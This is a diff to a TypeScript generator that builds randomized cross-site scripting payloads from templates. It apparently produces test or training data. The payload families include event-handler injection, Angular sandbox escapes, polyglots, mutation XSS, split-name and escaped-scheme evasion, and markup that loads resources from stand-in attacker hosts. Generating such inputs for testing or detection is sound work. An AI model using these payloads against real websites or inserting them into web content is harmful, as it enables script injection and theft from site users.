@@ -157,7 +157,6 @@ const scriptScheme = mostly(
   ['javascript:void(0);', 0.2],
   ['javascript:javascript:', 0.4],
   [text`javascript://${inventedWord}.com/%0a`, 0.4],
-  ['javascript:"/*\'/*`/*--></noscript></title></textarea>', 0.1],
   ['\\x6Aavascript:', 0.3],
   ['\\u006aavascript:', 0.3],
   ['javascript\\x3a', 0.3],
@@ -271,7 +270,7 @@ export const handlerTemplates = family('cross-site-scripting/handler', {
     )}${ending}`
   ),
   body: anywhere(
-    text`<body${gap}${words('onload onpageshow onhashchange onscroll onresize onfocus onunload onbeforeunload onmessage onoffline onpopstate')}${equals}${quoted(script)}${oneOf('>', '><br><br><br><br><x id=x>#x', text`><input autofocus>`, '')}`
+    text`<body${gap}${words('onload onpageshow onhashchange onscroll onresize onfocus onunload onbeforeunload onmessage onoffline onpopstate')}${equals}${quoted(script)}${oneOf('>', text`>${repeat('<br>', 2, 9)}<x id=x>#x`, text`><input autofocus>`, '')}`
   ),
   'details-toggle': anywhere(
     text`<details${gap}${maybe('open ')}ontoggle${equals}${quoted(script)}${maybe(' open')}${ending}`
@@ -358,7 +357,13 @@ export const breakoutTemplates = family('cross-site-scripting/breakout', {
     text`callback=${script}`
   ),
   'expression-in-json': text`${oneOf('"}', "'}", '"]', '"}]}', '"})', "'})")}${oneOf(';', ',', '-', '</script><script>')}${script}${oneOf('//', ';{"', '</script>', "({'")}`,
-  angular: text`{{${oneOf(text`constructor.constructor('${script}')()`, text`$on.constructor('${dialogue}(1)')()`, text`toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","${dialogue}(1)"].sort(toString.constructor)`, text`x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(${repeat(integer(40, 122), 5, 12, ',')}))()`, text`'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${script}//')`, text`[].pop.constructor('${dialogue}(${integer(1, 99)})')()`, text`_c.constructor('${dialogue}(1)')()`, text`_openBlock.constructor('${dialogue}(1)')()`, text`a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,${dialogue}(1),a')`)}}}`,
+  angular: text`{{${oneOf(
+    text`${oneOf('', 'a.', '$on.', 'toString.', '[].pop.', '_c.', '_openBlock.', '[].', "''.sub.", '$eval.', 'x.')}constructor${maybe('.constructor')}('${oneOf(script, text`${dialogue}(${integer(1, 99)})`)}')()`,
+    text`${same(letters(LOWER), (name) => text`${name}=${oneOf('toString()', "''", '[]')}.constructor.prototype;${name}.${words('charAt trim slice')}=${name}.${words('trim concat join')};$eval('${name},${dialogue}(1),${name}')`)}`,
+    text`${quoted(letters(LOWER))}.constructor.prototype.${words('charAt trim toString')}=[].${words('join concat slice')};$eval('${letters(LOWER)}=${integer(0, 9)}} } };${script}//')`,
+    text`${letters(LOWER)}=valueOf.name.constructor.fromCharCode;constructor.constructor(${letters(LOWER)}(${repeat(integer(40, 122), 5, 12, ',')}))()`,
+    text`[${integer(1, 9)}]|${words('orderBy filter map')}:'${dialogue}(1)'`
+  )}}}`,
   'vue-directives': anywhere(
     text`<${words('div x p img a')} ${oneOf('v-show', 'v-on:click', '@click', 'v-html', ':is', 'v-bind:x', 'ng-click', 'ng-focus', 'ng-init', 'x-init', 'x-on:click', '@mouseover', 'data-ng-app ng-csp ng-click', 'hx-on:click', 'on:click')}=${quoted(oneOf(text`_c.constructor\`${dialogue}(1)\`()`, text`$event.view.${dialogue}(1)`, script, text`constructor.constructor('${dialogue}(1)')()`, text`$event.path|orderBy:'(z=${dialogue})(1)'`))}>`
   )
@@ -406,7 +411,22 @@ export const elementTemplates = family('cross-site-scripting/element', {
     text`<link${gap}rel=${quoted(oneOf('stylesheet', 'import', 'icon', 'preload', 'prefetch', 'modulepreload', 'prerender'))} href=${quoted(oneOf(scriptUrl, attackerUrl))}${oneOf(ending, text` ${handled}>`, text` as=script onload=${script}>`)}`
   ),
   'style-block': anywhere(
-    text`<style${maybe(' type=text/css')}>${oneOf(css, text`${tag}{${css}}`, text`@import'${attackerUrl}';`, text`body{background:url("${scriptUrl}")}`, text`.${lowerWord}{background-image:url("${scriptUrl}");}`, text`*[{}*{${css}}`, text`@im\\port'\\ja\\vasc\\ript:${script}';`, text`input[value^=${letters(LOWER, 1)}]{background:url(${attackerUrl})}`)}</style>${maybe(text`<${tag} class=${lowerWord}>`)}`
+    text`<style${maybe(' type=text/css')}>${oneOf(
+      css,
+      text`${tag}{${css}}`,
+      text`@import'${attackerUrl}';`,
+      text`body{background:url("${scriptUrl}")}`,
+      text`.${lowerWord}{background-image:url("${scriptUrl}");}`,
+      text`*[{}*{${css}}`,
+      text`${altered('@import', (rule, rng) => {
+        const at = rng.int(2, 5);
+        return `${rule.slice(0, at)}\\${rule.slice(at)}`;
+      })}'${altered('javascript:', (scheme, rng) => {
+        const at = rng.int(2, 8);
+        return `${scheme.slice(0, at)}\\${scheme.slice(at)}`;
+      })}${script}';`,
+      text`input[value^=${letters(LOWER, 1)}]{background:url(${attackerUrl})}`
+    )}</style>${maybe(text`<${tag} class=${lowerWord}>`)}`
   ),
   'style-attribute': anywhere(
     text`<${tag}${gap}style${equals}${quoted(css)}${oneOf(ending, text`>${lowerWord}</div>`)}`
@@ -424,7 +444,7 @@ export const elementTemplates = family('cross-site-scripting/element', {
     text`<${oneOf('table background', 'td background', 'body background', 'img dynsrc', 'img lowsrc', 'bgsound src', 'input type="image" src', 'layer src', 'img src', 'tr background', 'br size="&{1}" x', 'comment><img src', 'event-source src', 'ilayer src', 'image src', 'embed code', 'applet code', 'video poster', 'html manifest', 'xml src', 'frameset onload', 'div datafld="b" dataformatas="html" datasrc', 'q cite', 'bgsound lowsrc', 'img usemap')}${equals}${quoted(scriptUrl)}${ending}`
   ),
   math: anywhere(
-    text`<math${maybe('><mtext')}${gap}${oneOf(text`${maybe('xlink:')}href=${quoted(scriptUrl)}>${lowerWord}`, text`><maction actiontype="statusline#${attackerUrl}" xlink:href=${quoted(scriptUrl)}>click</maction></math>`, text`><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`, text`><annotation-xml encoding="text/html"><img src=x onerror=${script}>`, text`><mi${gap}xlink:href="data:x,<script>${script}</script>">`)}`
+    text`<math${maybe('><mtext')}${gap}${oneOf(text`${maybe('xlink:')}href=${quoted(scriptUrl)}>${lowerWord}`, text`><maction ${maybe('actiontype="toggle" ')}xlink:href=${quoted(scriptUrl)}>${lowerWord}</maction></math>`, text`><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`, text`><annotation-xml encoding="text/html"><img src=x onerror=${script}>`, text`><mi${gap}xlink:href="data:x,<script>${script}</script>">`)}`
   ),
   mutation: oneOf(
     text`<${words('noscript style title textarea xmp noembed iframe noframes')}><p title="</${words('noscript style title textarea xmp noembed iframe noframes')}><img src=x onerror=${script}>">`,
@@ -450,7 +470,7 @@ export const elementTemplates = family('cross-site-scripting/element', {
   'dom-clobbering': anywhere(
     text`<${oneOf(text`a id=${words('defaultAvatar config x CONFIG test')}><a id=x name=avatar href="cid:&quot;onerror=${script}//"`, text`form id=x tabindex=0 onfocus=${script}><input id=attributes`, text`img name=${words('getElementById body cookie currentScript')} src=${attackerUrl} ${handled}`)}>`
   ),
-  polyglot: text`${oneOf('jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */', '\'"`-->', '">><marquee><img src=x onerror=confirm(1)></marquee>" ></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>', '--></script>', '*/alert(1)/*', '\'"></title></style></textarea>', '\';`"><', '-->\'"/></sCript>', '" onclick=alert(1)//<button \' onclick=alert(1)//> */ ', 'javascript://\'/</title></style></textarea></script>--><p" ')}${oneOf(text`<svg/onload=${script}//`, text`oNcliCk=${script} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${script}//>\\x3e`, text`<script>${script}</script>`, text`<img src=x onerror=${script}>`, text`<details open ontoggle=${script}>`)}`,
+  polyglot: text`${altered(text`${repeat(oneOf("'", '"', '`', '*/', '/*', '-->', '//', ';', '>', '\\', ')', '}', '</title>', '</style>', '</textarea>', '</script>', '</noscript>', '</plaintext>', '<!--', ']]>'), 4, 12)}`, (closers, rng) => (rng.chance(0.3) ? `${mixCase('javascript:', rng)}${closers}` : closers))}${oneOf(text`<${cased('svg')}/${cased('onload')}=${script}//`, text`${cased('onclick')}=${script}//`, text`<script>${script}</script>`, text`<img src=x onerror=${script}>`, text`<details open ontoggle=${script}>`)}${repeat(oneOf("'", '"', '//', '-->', '>', '/*', '`'), 0, 4)}`,
   'markdown-link': text`${maybe('!')}[${oneOf(lowerWord, 'a', 'click me', '')}](${scriptUrl}${maybe(text` "${lowerWord}"`, 0.2)})`,
   'markdown-breakout': text`![${lowerWord}](${oneOf('https://x', lowerWord)}${oneOf('"', "'")}${handled}${oneOf(')', '"x)', text` "${lowerWord}")`)}`,
   bbcode: oneOf(
@@ -482,16 +502,26 @@ export const elementTemplates = family('cross-site-scripting/element', {
       text`<t:animate attributename="innerHTML" values="<img src=x onerror=${script}>"/>`
     )
   ),
-  locator: text`${oneOf("'';!--\"", ';!--"', '\'"`', '"><', "';", '<!--')}<${oneOf('xss', 'crosssitescripting', 'x', lowerWord)}${maybe('>')}${oneOf('=&{()}', '=', '>', '\'"', '=&{(alert(1))}', '`')}`,
+  locator: text`${letters('\'";!-&=(){}[]<>/`', 3, 9)}<${oneOf('xss', 'x', lowerWord)}${maybe('>')}${letters('\'";!-&=(){}[]<>/`', 1, 6)}`,
   'unknown-handler': anywhere(
     text`<${oneOf('x', '%78', 'xss', lowerWord)}${oneOf(' ', '%20', '/', '\n', '%0a', '\t', " 1='1'", ' 1=">"', ' a="b"')}${maybe(' ')}on${oneOf('xxx', lowerWord, 'x')}${equals}${oneOf('1', script, '""')}${ending}`
   ),
   'split-names': oneOf(
-    text`<img src=1 alt=al lang=ert onerror=top[alt+lang](${integer(0, 9)})>`,
-    text`${letters(LOWER)}=0||'ev'+'al',${letters(LOWER)}=0||location.hash,${letters(LOWER)}=0||'sub'+'str',1[${letters(LOWER)}](${letters(LOWER)}[${letters(LOWER)}](1))`,
-    text`<svg id=al class=ert onload=top[id+className](1)>`,
-    text`var ${letters(LOWER)}='al';var ${letters(LOWER)}='ert';window[${letters(LOWER)}+${letters(LOWER)}](1)`,
-    text`${letters(LOWER)}=/ev/.source;${letters(LOWER)}+=/al/.source;this[${letters(LOWER)}](name)`
+    altered(text`${dialogue} ${words('alt lang title id name')} ${words('class rel rev type dir')}`, (drawn, rng) => {
+      const [call, first, second] = drawn.split(' ') as [string, string, string];
+      const at = rng.int(1, call.length - 1);
+      const property = second === 'class' ? 'className' : second;
+      return `<${rng.pick(['img src=1', 'svg', 'input autofocus', 'body'])} ${first}=${call.slice(0, at)} ${second}=${call.slice(at)} ${rng.pick(['onerror', 'onload', 'onfocus'])}=top[${first}+${property}](${rng.int(0, 9)})>`;
+    }),
+    altered(words('eval alert confirm setTimeout location'), (call, rng) => {
+      const at = rng.int(1, call.length - 1);
+      const [a, b] = rng.shuffle(Array.from(LOWER));
+      return rng.pick([
+        `var ${a}='${call.slice(0, at)}';var ${b}='${call.slice(at)}';window[${a}+${b}](1)`,
+        `${a}='${call.slice(0, at)}'+'${call.slice(at)}',${b}=location.hash;this[${a}](${b}.slice(1))`,
+        `${a}=/${call.slice(0, at)}/.source;${a}+=/${call.slice(at)}/.source;self[${a}](name)`
+      ]);
+    })
   ),
   binding: anywhere(
     text`<${oneOf('div', 'xss', tag)} style=${quoted(text`${words('behavior behaviour binding -moz-binding')}:${maybe(' ')}url(${oneOf('[link to code]', text`${attackerUrl}#xss`, text`${lowerWord}.htc`, text`mocha:[code]`)})${maybe(';')}`)}>`
@@ -499,10 +529,20 @@ export const elementTemplates = family('cross-site-scripting/element', {
   'data-binding': anywhere(
     oneOf(
       text`<span datasrc=${quoted(text`#${lowerWord}`)} datafld=${quoted(letters(LOWER))} dataformatas=${quoted('html')}></span>`,
-      text`<?import namespace="${lowerWord}" implementation="${oneOf('#default#time2', text`${attackerUrl}`, text`http://${attackerHost}/${lowerWord}.htc`)}">`,
-      text`<html xmlns:${lowerWord}><?import namespace="${lowerWord}" implementation="http://${attackerHost}/${lowerWord}.htc"><${lowerWord}:${lowerWord}>`,
-      text`<xml id=${letters(LOWER)}><x><c><![cdata[<img src="javas]]><![cdata[cript:${script}">]]></c></x></xml><span datasrc=#${letters(LOWER)} datafld=c dataformatas=html></span>`,
-      text`<?xml:namespace prefix="${letters(LOWER)}" ns="urn:schemas-microsoft-com:time">`
+      text`<?import namespace="${lowerWord}" implementation="${oneOf('#default#time2', attackerUrl, text`http://${attackerHost}/${lowerWord}.htc`)}">`,
+      same(
+        lowerWord,
+        (name) =>
+          text`<html xmlns:${name}><?import namespace="${name}" implementation="http://${attackerHost}/${lowerWord}.htc"><${name}:${name}>`
+      ),
+      altered(
+        text`<xml id=${letters(LOWER)}><x><c><![CDATA[<img src="javascript:${script}">]]></c></x></xml><span datasrc=#x datafld=c>`,
+        (markup, rng) => {
+          const at = markup.indexOf('javascript') + rng.int(1, 9);
+          return `${markup.slice(0, at)}]]><![CDATA[${markup.slice(at)}`;
+        }
+      ),
+      text`<?xml:namespace prefix="${letters(LOWER)}" ns="urn:${lowerWord}-${lowerWord}:time">`
     )
   ),
   'telling-link': anywhere(
@@ -518,11 +558,14 @@ export const elementTemplates = family('cross-site-scripting/element', {
   'stripped-brackets': text`${maybe(lowerWord)}${oneOf('script', 'ſcript', '¼script¾', ' script ')}${script}${oneOf('/script', '¼/script¾', ' /script')}`,
   'half-script': anywhere(
     oneOf(
-      text`<script>${letters(LOWER)}=/xss/${maybe(';')}`,
+      text`<script>${letters(LOWER)}=/${lowerWord}/${maybe(';')}`,
       text`<script>${letters(LOWER)}=eval;${letters(LOWER)}=alert;`,
-      text`<? echo('<scr)'; echo('ipt>${script}</script>'); ?>`,
+      altered(text`<script>${script}</script>`, (markup, rng) => {
+        const at = rng.int(3, 7);
+        return `<? echo('${markup.slice(0, at)}'); echo('${markup.slice(at)}'); ?>`;
+      }),
       text`<% ${script} %>`,
-      text`mhtml:http://${attackerHost}/${lowerWord}.html!xss.html`,
+      text`mhtml:http://${attackerHost}/${lowerWord}.html!${lowerWord}.html`,
       text`<iframe src=mhtml:http://${attackerHost}/${lowerWord}.html!${lowerWord}></iframe>`
     )
   ),
